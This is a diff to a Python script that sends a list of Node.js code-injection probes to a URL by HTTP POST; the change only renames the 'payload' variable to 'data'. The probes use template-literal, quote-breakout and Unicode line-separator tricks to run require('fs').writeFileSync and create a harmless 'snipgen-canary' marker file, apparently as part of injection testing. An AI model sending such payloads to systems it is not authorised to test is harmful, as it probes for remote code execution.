@@ -18,7 +18,7 @@ headers = {
     "X-Try-15": "\\",
     "Content-Type": "text/plain",
 }
-payload = """\
+data = """\
 ${require('fs').writeFileSync('snipgen-canary','')}
 '+require('fs').writeFileSync('snipgen-canary','')+'
 "+require('fs').writeFileSync('snipgen-canary','')+"
@@ -36,5 +36,5 @@ ${process.binding('fs')}
 \u2028require('fs').writeFileSync('snipgen-canary','')\u2029require('fs').writeFileSync('snipgen-canary','')//
 \\"""
 
-response = requests.post(url, headers=headers, data=payload)
+response = requests.post(url, headers=headers, data=data)
 print(response.text)
